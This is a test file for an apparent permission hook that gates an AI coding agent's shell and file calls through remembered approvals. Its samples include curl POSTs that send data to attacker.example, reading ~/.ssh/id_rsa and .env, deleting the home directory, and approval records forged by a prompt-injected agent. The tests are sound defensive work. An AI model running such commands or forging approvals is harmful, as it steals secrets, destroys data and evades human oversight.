import { describe, expect, it } from 'vitest';
import { cacheKey } from '../../src/memory/cache.js';
import { loadScope } from '../../src/memory/store.js';
import type { Sanitized } from '../../src/sanitize/index.js';
import { makeProject, verdictOf, type TestProject } from '../support/project.js';
import { rememberCommand, rememberSubject, subjectFor, targetOf } from '../support/memory.js';
import { CODE_PAIRS } from './code-pairs.js';

const bash = (command: string): Record<string, unknown> => ({ command });

describe('tier 2a: token Jaccard', () => {
  it('a near-duplicate of a remembered allow is approved, with the score as confidence', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'make deploy-staging REGION=eu-west-1 --jobs 4 --keep-going', 'allow');
    // One argument value swapped: 5 shared of 7 distinct tokens.
    const r = await p.check(p.pre('Bash', bash('make deploy-staging REGION=us-east-1 --jobs 4 --keep-going')));
    expect(r.decision).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
    expect(r.decision?.confidence).toBeCloseTo(5 / 7, 5);
    expect(r.decision?.reason).toMatch(/similar \(0\.71\)/);
  });

  it('a call that asks to leave the host sandbox (dangerouslyDisableSandbox) is never allowed by a near match', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'make deploy-staging REGION=eu-west-1 --jobs 4 --keep-going', 'allow');
    const r = await p.check(
      p.pre('Bash', {
        ...bash('make deploy-staging REGION=us-east-1 --jobs 4 --keep-going'),
        dangerouslyDisableSandbox: true,
      }),
    );
    expect(r.decision?.verdict).toBe('ask');
    expect(r.decision?.tier).not.toBe('jaccard');
  });

  it('below the threshold (0.7 by default) nothing matches; the threshold is configurable and a project may only raise it', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'make deploy-staging --jobs 4', 'allow');
    // 3 shared of 5 distinct tokens: 0.6
    expect((await p.check(p.pre('Bash', bash('make deploy-staging --jobs 8')))).decision?.tier).toBe('default');
    p.write(`${p.configDir}/config.yml`, 'memory:\n  jaccard_threshold: 0.6\n');
    expect((await p.check(p.pre('Bash', bash('make deploy-staging --jobs 8')))).decision).toMatchObject({
      verdict: 'allow',
      tier: 'jaccard',
    });
    p.write('.hookwise/policy.yml', 'memory:\n  jaccard_threshold: 0.5\n');
    expect((await p.check(p.pre('Bash', bash('make deploy-staging --jobs 8')))).decision?.tier).toBe('jaccard');
    p.write('.hookwise/policy.yml', 'memory:\n  jaccard_threshold: 0.9\n');
    expect((await p.check(p.pre('Bash', bash('make deploy-staging --jobs 8')))).decision?.tier).toBe('default');
  });

  it('a match to ask returns ask, and records that ask for this exact call so a repeat cannot drift to allow', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'make migrate-db --env prod --yes --timeout 30', 'ask');
    const first = await p.check(p.pre('Bash', bash('make migrate-db --env prod --yes --timeout 60')));
    expect(first.decision).toMatchObject({ verdict: 'ask', tier: 'jaccard' });
    const recorded = loadScope(targetOf(p, 'user')).records.filter((r) => r.tier === 'jaccard');
    expect(recorded).toEqual([
      expect.objectContaining({
        verdict: 'ask',
        decided_by: 'rule',
        subject: 'make migrate-db --env prod --yes --timeout 60',
      }),
    ]);
    // Now even an allow for exactly this call, committed to the project, cannot turn the repeat into an allow.
    await rememberCommand(p, 'make migrate-db --env prod --yes --timeout 60', 'allow', { scope: 'project' });
    const repeat = await p.check(p.pre('Bash', bash('make migrate-db --env prod --yes --timeout 60')));
    expect(repeat.decision).toMatchObject({ verdict: 'ask', tier: 'exact-cache' });
  });

  it('never auto-denies: a match to deny passes on (to a human), and blocks an allow that is less similar', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'make release-prod --jobs 4 --push --tag v2.1.0', 'deny');
    // 0.75 similar: an allow on its own would approve it; the closer deny (0.75 too, and stricter) passes on.
    await rememberCommand(p, 'make release-prod --jobs 4 --push --tag v2.0.0', 'allow');
    const r = await p.check(p.pre('Bash', bash('make release-prod --jobs 4 --push --tag v2.2.0')));
    expect(verdictOf(r)).toBe('ask');
    expect(r.decision?.tier).toBe('default');
  });

  it('calls with fewer than 3 tokens skip it', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'terraform plan', 'allow');
    expect((await p.check(p.pre('Bash', bash('terraform apply')))).decision?.tier).not.toBe('jaccard');
  });

  it('guard: the command names must be the same (wrappers and argv[0])', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'docker compose up -d web api worker', 'allow');
    // 6 of 8 tokens shared (0.75), but another program.
    const r = await p.check(p.pre('Bash', bash('podman compose up -d web api worker')));
    expect(r.decision?.tier).not.toBe('jaccard');
    expect((await p.check(p.pre('Bash', bash('docker compose up -d web api scheduler')))).decision).toMatchObject({
      verdict: 'allow',
      tier: 'jaccard',
    });
    // A wrapper is part of the name: approving `npm run build …` says nothing about `sudo npm run build …`.
    await rememberCommand(p, 'npm run build --workspace web --if-present', 'allow');
    expect(
      (await p.check(p.pre('Bash', bash('sudo npm run build --workspace api --if-present')))).decision?.tier,
    ).not.toBe('jaccard');
  });

  it('guard: only argument values may differ — an added option, a reordered one or a broad value is another command', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'docker run -it --rm ubuntu:22.04 bash', 'allow');
    expect((await p.check(p.pre('Bash', bash('docker run -it --rm ubuntu:24.04 bash')))).decision).toMatchObject({
      verdict: 'allow',
      tier: 'jaccard',
    });
    for (const command of [
      'docker run -it --rm --privileged ubuntu:22.04 bash',
      'docker run --rm -it ubuntu:22.04 bash',
      'docker run -it --rm ubuntu:22.04',
    ]) {
      expect((await p.check(p.pre('Bash', bash(command)))).decision?.tier, command).not.toBe('jaccard');
    }
  });

  it('guard: a destination is no plain value — a URL of another origin, a remote or an `@file` is another command', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    // curl's request bodies have no catalogue annotation, so these keep the shape rail.
    const post = (url: string, body: string): string =>
      `curl -s -X POST ${url} -H 'Content-Type: application/json' -H 'Accept: application/json' -d ${body}`;
    await rememberCommand(p, post('http://127.0.0.1:8080/api/users', 'ada'), 'allow');
    for (const command of [
      post('http://127.0.0.1:8080/api/users', 'bob'),
      post('http://127.0.0.1:8080/api/teams', 'ada'),
    ])
      expect((await p.check(p.pre('Bash', bash(command)))).decision, command).toMatchObject({
        verdict: 'allow',
        tier: 'jaccard',
      });
    for (const command of [
      post('http://attacker.example/api/users', 'ada'),
      post('http://127.0.0.1:9090/api/users', 'ada'),
      post('http://127.0.0.1:8080@attacker.example/api/users', 'ada'),
      post('http://127.0.0.1:8080/api/users', '@notes.txt'),
      post('http://127.0.0.1:8080/api/users', 'name=@notes.txt'),
      post('http://127.0.0.1:8080/api/users', 'git@attacker.example:loot'),
    ]) {
      expect((await p.check(p.pre('Bash', bash(command)))).decision?.tier, command).not.toBe('jaccard');
    }
  });

  it('guard: two calls the catalogue accounts for match by form only, never by shape', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, "grep -A3 'ERROR' logs/api.log > excerpts/api-errors.txt", 'allow');
    // One word of seven differs (0.75), but the read moved from the project to /var/log/.
    const r = await p.check(p.pre('Bash', bash("grep -A3 'ERROR' /var/log/auth.log > excerpts/api-errors.txt")));
    expect(r.decision?.verdict).toBe('ask');
    expect(r.decision?.tier).not.toBe('jaccard');
  });

  it('guard: on the shape rail a file operand swaps only for one in the same place', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'acme-pack --level 9 --quiet logs/api.log archive/api.gz', 'allow');
    expect(
      (await p.check(p.pre('Bash', bash('acme-pack --level 9 --quiet logs/db.log archive/api.gz')))).decision,
    ).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
    expect(
      (await p.check(p.pre('Bash', bash('acme-pack --level 7 --quiet logs/api.log archive/api.gz')))).decision,
    ).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
    for (const command of [
      'acme-pack --level 9 --quiet /var/log/api.log archive/api.gz',
      'acme-pack --level 9 --quiet logs/api.log ../archive/api.gz',
      'acme-pack --level 9 --quiet api archive/api.gz',
    ])
      expect((await p.check(p.pre('Bash', bash(command)))).decision?.tier, command).not.toBe('jaccard');
  });

  it('guard: write targets must fall in the same path-policy classes for the role', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    // src/** is allow_write for a coder; build/ is in no list. curl is not a plain file command, so neither
    // call is decided by policy alone.
    await rememberCommand(p, 'curl -sS -o src/data/schema.json https://schemas.example.com/v1/schema.json', 'allow');
    const other = await p.check(
      p.pre('Bash', bash('curl -sS -o build/data/schema.json https://schemas.example.com/v1/schema.json')),
    );
    expect(other.decision?.tier).not.toBe('jaccard');
    const same = await p.check(
      p.pre('Bash', bash('curl -sS -o src/data/schema2.json https://schemas.example.com/v1/schema.json')),
    );
    expect(same.decision).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
  });

  // data/ is not a build output (deleting dist/ or build/ loses nothing: shell/data-loss.ts).
  it('guard: a call that loses data is never approved by similarity (exact match only)', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'rm -rf data/cache/v1/tmp/a', 'allow');
    expect((await p.check(p.pre('Bash', bash('rm -rf data/cache/v1/tmp/a')))).decision?.tier).toBe('exact-cache');
    expect((await p.check(p.pre('Bash', bash('rm -rf data/cache/v1/tmp/b')))).decision?.tier).toBe('default');
  });

  it('guard: a segment a pack asks about is never approved, whatever memory says', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'git push --force origin feature/login-form', 'allow');
    for (const command of [
      'git push --force origin feature/login-form',
      'git push --force origin feature/login-form-2',
    ]) {
      const r = await p.check(p.pre('Bash', bash(command)));
      expect(verdictOf(r)).toBe('ask');
      expect(['shell', 'rules']).toContain(r.decision?.tier);
    }
  });

  it('file tools are exact only: a similar path is a different file', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    const { rememberSubject, subjectFor } = await import('../support/memory.js');
    rememberSubject(
      p,
      await subjectFor(p, 'Write', { file_path: `${p.root}/notes/2026/plan-a.txt`, content: '' }),
      'allow',
    );
    const r = await p.check(p.pre('Write', { file_path: `${p.root}/notes/2026/plan-b.txt`, content: '' }));
    expect(r.decision?.tier).toBe('default');
  });
});

describe('tier 2a: similarity never matches across different code', () => {
  let seq = 0;
  /** Teaches memory the real way: hookwise asks (nobody decided), the human approves at the host's prompt. */
  async function approveAtPrompt(p: TestProject, command: string): Promise<void> {
    const pre = { ...p.pre('Bash', bash(command)), tool_use_id: `toolu_code_${++seq}` };
    expect((await p.check(pre)).decision, command).toMatchObject({ verdict: 'ask', tier: 'default' });
    await p.check({ ...pre, hook_event_name: 'PostToolUse', tool_response: {} });
  }

  it.each(CODE_PAIRS)('$kind: approving one call never lets other code through memory', async ({ benign, other }) => {
    const p = makeProject();
    p.register('s1', 'coder');
    await approveAtPrompt(p, benign);
    expect(loadScope(targetOf(p, 'user')).records).toEqual([
      expect.objectContaining({ verdict: 'allow', decided_by: 'host-prompt' }),
    ]);
    expect((await p.check(p.pre('Bash', bash(benign)))).decision).toMatchObject({
      verdict: 'allow',
      tier: 'exact-cache',
    });
    const r = await p.check(p.pre('Bash', bash(other)));
    expect(verdictOf(r)).not.toBe('allow');
    expect(['exact-cache', 'jaccard']).not.toContain(r.decision?.tier);
  });

  /**
   * The controls: each of these pairs has the same shape and scores at or above the threshold, so without
   * the code identity in the compared names similarity would approve the second after the first. A record
   * of the first call forged with the second's names proves it — and that the code identity is what stops it.
   * (Stdin data needs no control: its `[stdin …]` marker is never a plain value to the shape guard either.)
   */
  const CONTROLS: [string, string][] = [
    ["bash -c 'make docs-site --jobs 4 --keep-going'", "bash -c 'make deploy-prod --jobs 4 --keep-going'"],
    ["eval 'make docs-site --jobs 4 --keep-going'", "eval 'make deploy-prod --jobs 4 --keep-going'"],
    [
      "sh <<'EOF'\nmake docs-site --jobs 4 --keep-going\nEOF",
      "sh <<'EOF'\nmake deploy-prod --jobs 4 --keep-going\nEOF",
    ],
    [
      "node -e 'console.log(1)' --trace-warnings --stack-size 100 --title build",
      "node -e 'process.exit(1)' --trace-warnings --stack-size 100 --title build",
    ],
    ["sqlite3 -bail -readonly data/app.db 'SELECT 1'", "sqlite3 -bail -readonly data/app.db 'DELETE 1'"],
    [
      'python3 scripts/report.py --n 5 --out reports/weekly.csv --format csv --verbose --quiet --dry-run',
      // In the project: a script outside it (`/tmp/evil.py`) is another place as well, for the shape rail.
      'python3 lib/evil.py --n 5 --out reports/weekly.csv --format csv --verbose --quiet --dry-run',
    ],
    [
      'python3 scripts/report.py --n 5 --out reports/weekly.csv --format csv',
      'python3 scripts/evil.py --n 5 --out reports/weekly.csv --format csv',
    ],
  ];

  it.each(CONTROLS)('%s: blocked by the code identity alone', async (benign, other) => {
    const p = makeProject();
    p.register('s1', 'coder');
    const a = await subjectFor(p, 'Bash', bash(benign));
    const b = await subjectFor(p, 'Bash', bash(other));
    rememberSubject(p, a, 'allow');
    const r = await p.check(p.pre('Bash', bash(other)));
    expect(r.decision?.tier).toBe('default');
    const q = makeProject();
    q.register('s1', 'coder');
    const forged = await subjectFor(q, 'Bash', bash(benign));
    rememberSubject(
      q,
      {
        key: forged.key,
        subject: { ...forged.subject, commands: (await subjectFor(q, 'Bash', bash(other))).subject.commands },
      },
      'allow',
    );
    expect((await q.check(q.pre('Bash', bash(other)))).decision).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
    expect(b.subject.commands).not.toEqual(a.subject.commands);
  });

  it('the same script with a value swapped still matches; another script never does', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await approveAtPrompt(p, 'python3 scripts/report.py --n 5 --out reports/weekly.csv');
    expect(
      (await p.check(p.pre('Bash', bash('python3 scripts/report.py --n 6 --out reports/weekly.csv')))).decision,
    ).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
    for (const command of [
      'python3 scripts/evil.py --n 5 --out reports/weekly.csv',
      'python3 /tmp/evil.py --n 5 --out reports/weekly.csv',
      '/tmp/x/python3 scripts/report.py --n 6 --out reports/weekly.csv',
    ]) {
      expect((await p.check(p.pre('Bash', bash(command)))).decision?.tier, command).toBe('default');
    }
    // The same data in a here-document fed to a program that is no interpreter: its other arguments are values.
    await approveAtPrompt(p, 'deploytool render --env dev --format yaml --strict <<EOF\nkind: ConfigMap\nEOF');
    expect(
      (
        await p.check(
          p.pre('Bash', bash('deploytool render --env qa --format yaml --strict <<EOF\nkind: ConfigMap\nEOF')),
        )
      ).decision,
    ).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
    expect(
      (await p.check(p.pre('Bash', bash('deploytool render --env qa --format yaml --strict <<EOF\nkind: Secret\nEOF'))))
        .decision?.tier,
    ).toBe('default');
  });

  it('a record from before code identities (names only) never matches a call that carries code, and still matches one that does not', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    const old = async (command: string, commands: string[]): Promise<void> => {
      const s = await subjectFor(p, 'Bash', bash(command));
      rememberSubject(p, { key: s.key, subject: { ...s.subject, commands: commands as Sanitized[] } }, 'allow');
    };
    await old('python3 scripts/report.py --n 5 --out reports/weekly.csv', ['python3']);
    await old(`node -e "require('fs').rmSync('dist',{recursive:true})" --trace-warnings`, ['node']);
    // Its key did not change (no stdin): the exact call is still remembered.
    expect(
      (await p.check(p.pre('Bash', bash('python3 scripts/report.py --n 5 --out reports/weekly.csv')))).decision?.tier,
    ).toBe('exact-cache');
    expect(
      (await p.check(p.pre('Bash', bash('python3 scripts/report.py --n 6 --out reports/weekly.csv')))).decision?.tier,
    ).toBe('default');
    expect(
      (
        await p.check(
          p.pre(
            'Bash',
            bash(`node -e "require('fs').rmSync(require('os').homedir(),{recursive:true})" --trace-warnings`),
          ),
        )
      ).decision?.tier,
    ).toBe('default');
    // An old heredoc record was keyed on the header alone: no body matches it any more.
    rememberSubject(
      p,
      {
        key: cacheKey('Bash', 'psql app << SQL'),
        subject: {
          tool: 'Bash' as Sanitized,
          text: 'psql app << SQL' as Sanitized,
          commands: ['psql' as Sanitized],
          writes: [],
          lossy: false,
          similar: true,
          segments: [],
        },
      },
      'allow',
    );
    // (A body the database pack lets through: a DROP there is the pack's to deny, before memory is asked.)
    expect(
      (await p.check(p.pre('Bash', bash("psql app <<SQL\nINSERT INTO audit (note) VALUES ('x');\nSQL")))).decision
        ?.tier,
    ).toBe('default');
    // Without code, an old record matches as before.
    await old('make deploy-staging REGION=eu-west-1 --jobs 4 --keep-going', ['make']);
    expect(
      (await p.check(p.pre('Bash', bash('make deploy-staging REGION=us-east-1 --jobs 4 --keep-going')))).decision,
    ).toMatchObject({ verdict: 'allow', tier: 'jaccard' });
  });

  it('code that is not known as text (an expansion, a secret) is remembered exactly, never by similarity', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    const secret = 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
    const withSecret = (n: number): string => `python3 scripts/report.py --n ${n} <<EOF\ntoken = '${secret}'\nEOF`;
    await approveAtPrompt(p, withSecret(5));
    expect((await p.check(p.pre('Bash', bash(withSecret(5))))).decision?.tier).toBe('exact-cache');
    expect((await p.check(p.pre('Bash', bash(withSecret(6))))).decision?.tier).toBe('default');
  });
});

describe('tier 2a: an approval generalizes along the grammar (memory/form.ts)', () => {
  async function coder(remembered: string): Promise<TestProject> {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, remembered, 'allow');
    return p;
  }

  it.each([
    ['free text', "echo 'first note' > notes.txt", "echo 'something else entirely, longer' > todo.txt"],
    ['numbers', 'seq 1 10 > nums.txt', 'seq 40 9000 > other.txt'],
    ['file operands in the same place', 'sort -o sorted.txt input.txt', 'sort -o names.txt people.txt'],
    ['a value joined to an option', 'cut -d, -f2 data/a.csv > out/a.txt', 'cut -d, -f7 data/b.csv > out/b.txt'],
  ])('over %s: a call of the same form is allowed, naming the remembered one', async (_what, remembered, call) => {
    const p = await coder(remembered);
    const r = await p.check(p.pre('Bash', bash(call)));
    expect(r.decision).toMatchObject({ verdict: 'allow', tier: 'jaccard', confidence: 1 });
    expect(r.decision?.reason).toContain(remembered.slice(0, 10));
  });

  it.each([
    ['an option', 'sort -o sorted.txt input.txt', 'sort -r -o sorted.txt input.txt'],
    ['a program', 'uniq input.txt out.txt', 'xxd input.txt out.txt'],
    ['code (an awk program)', "awk '{print $1}' a.txt > out.txt", "awk '{print $2}' a.txt > out.txt"],
    ['a file outside the project', 'sort -o sorted.txt input.txt', 'sort -o /opt/data/sorted.txt input.txt'],
    ['a broad operand', 'tree -o tree.txt src', 'tree -o tree.txt /'],
    ['the process a signal goes to', 'kill 4242', 'kill 1'],
    ['a file in a hidden directory', 'ls -la src/a > reports/a.txt', 'ls -la src/b > .git/info/attributes'],
  ])('never over %s', async (_what, remembered, call) => {
    const p = await coder(remembered);
    const r = await p.check(p.pre('Bash', bash(call)));
    expect(r.decision?.verdict).toBe('ask');
    expect(r.decision?.tier).not.toBe('jaccard');
  });

  it('never over a write class: the same form writing where the role policy says otherwise is asked', async () => {
    // src/** is allow_write for a coder, the project root is in no list: same form, other classes.
    const p = await coder("echo 'a' > notes.txt ; echo 'b' > src/gen.ts");
    const r = await p.check(p.pre('Bash', bash("echo 'a' > notes.txt ; echo 'b' > more.txt")));
    expect(r.decision?.tier).toBe('default');
  });

  it('a remembered ask propagates to a call of the same form; a remembered deny never decides it', async () => {
    const p = makeProject();
    p.register('s1', 'coder');
    await rememberCommand(p, 'seq 1 10 > nums.txt', 'ask');
    expect((await p.check(p.pre('Bash', bash('seq 5 50 > other.txt')))).decision).toMatchObject({
      verdict: 'ask',
      tier: 'jaccard',
    });
    const q = makeProject();
    q.register('s1', 'coder');
    await rememberCommand(q, 'seq 1 10 > nums.txt', 'deny');
    expect((await q.check(q.pre('Bash', bash('seq 5 50 > other.txt')))).decision?.verdict).toBe('ask');
    expect((await q.check(q.pre('Bash', bash('seq 5 50 > other.txt')))).decision?.tier).toBe('default');
  });

  it('the path policy and sensitive reads still run first: a learned form never reads a credential file', async () => {
    const p = await coder('cat /tmp/build/a.log > copy.txt');
    const r = await p.check(p.pre('Bash', bash(`cat ${p.home}/.ssh/id_rsa > copy.txt`)));
    expect(r.decision?.verdict).not.toBe('allow');
    expect(['jaccard', 'embedding']).not.toContain(r.decision?.tier);
  });

  it.each(['project', 'user', 'org', 'session'] as const)(
    'a forged form in the %s scope generalizes over nothing: dropped with a warning, the exact call still decided',
    async (scope) => {
      const p = makeProject();
      p.register('s1', 'coder');
      // The record of a harmless count carries the form of another command: committed by someone else, or
      // written by a prompt-injected agent in an earlier session.
      const count = await subjectFor(p, 'Bash', bash('wc -l a.ts > out.txt'));
      const other = await subjectFor(p, 'Bash', bash('seq 5 50 > other.txt'));
      count.subject.form = other.subject.form;
      rememberSubject(p, count, 'allow', { scope });
      const forged = await p.check(p.pre('Bash', bash('seq 5 50 > other.txt')));
      expect(forged.decision?.tier).toBe('default');
      expect(forged.stderr).toMatch(/decision memory: .*:1: its form is not a form of its subject/);
      expect((await p.check(p.pre('Bash', bash('wc -l a.ts > out.txt')))).decision).toMatchObject({
        verdict: 'allow',
        tier: 'exact-cache',
      });
    },
  );

  it('a sensitive file inside the project is no file operand like another: `.env` is still asked', async () => {
    const p = await coder('cat config/a.txt > out.txt');
    p.write('.env', 'API_KEY=x\n');
    const r = await p.check(p.pre('Bash', bash('cat .env > out.txt')));
    expect(r.decision?.verdict).not.toBe('allow');
    expect(['jaccard', 'embedding']).not.toContain(r.decision?.tier);
  });

  it('a call the catalogue cannot account for keeps the shape rail (no generalization over its words)', async () => {
    const p = await coder("mytool note 'first note' --tag a");
    expect((await p.check(p.pre('Bash', bash("mytool note 'another note entirely' --tag a")))).decision?.tier).toBe(
      'default',
    );
  });
});
